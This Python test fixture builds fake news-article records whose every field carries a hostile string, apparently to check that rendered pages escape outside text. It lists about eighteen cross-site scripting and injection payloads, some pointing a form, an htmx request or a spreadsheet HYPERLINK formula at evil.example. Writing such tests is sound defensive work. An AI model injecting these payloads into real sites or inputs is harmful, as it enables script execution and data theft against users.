"""Hostile words for every place a page shows words from outside: titles, bodies, names, addresses, authors, outlets."""

from onrecord.records.actors import Actor, ActorType, LinkBasis
from onrecord.records.documents import Basis, Candidate, DateRange, Document, Outlet, hash_text
from onrecord.records.findings import Act, Attribution, Directness, Findings, Speaker, WordingUse
from onrecord.records.spans import Span

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "{{ 7 * 7 }}{% raw %}alert{% endraw %}",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202etxt.exe alert \u2066isolate\u2069",
    "<style>*{display:none}</style> alert",
    '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)>',
    '<div hx-get="https://evil.example" hx-trigger="load" hx-on:load="alert(1)">alert</div>',
    '<p id="main" class="vh" data-key="a">alert</p>',
    '=HYPERLINK("https://evil.example";"alert")',
)


def hostile_findings() -> tuple[Findings, ...]:
    """One article for each hostile text, which stands in every field at once."""
    return tuple(_article(words, number) for number, words in enumerate(HOSTILE))


def _article(words: str, number: int) -> Findings:
    text = f"{words}\n\n“{words}” {words} said. Number {number} alert."
    quote = Span(len(words) + 2, 2 * len(words) + 4)
    source = Span(quote.end + 1, quote.end + 1 + len(words))
    cue = Span(source.end + 1, source.end + 5)
    document = Document(
        hash_text(text),
        f"{words}.txt",
        words,
        text,
        "en",
        Outlet(words, Basis.TEXT),
        DateRange(basis=Basis.UNKNOWN, reason=words),
        url=words,
        author=words,
        raw_hash="0" * 64,
        candidates=(Candidate("outlet", words, words),),
    )
    actor = Actor("a1", words, ActorType.PERSON, f"person:{words}", "XX", words, (words,))
    said = Attribution(
        "s1",
        (source,),
        (cue,),
        (quote,),
        Directness.DIRECT,
        Speaker("a1", words, LinkBasis.ROLE, 0.9, words),
        Act.THREAT,
        None,
        None,
        0.9,
        "made",
        flags=(words,),
    )
    wording = WordingUse("w1", quote, words, words, None, words, 0.9, "made")
    return Findings(document, (), (actor,), (said,), wordings=(wording,), annotator="made-1")
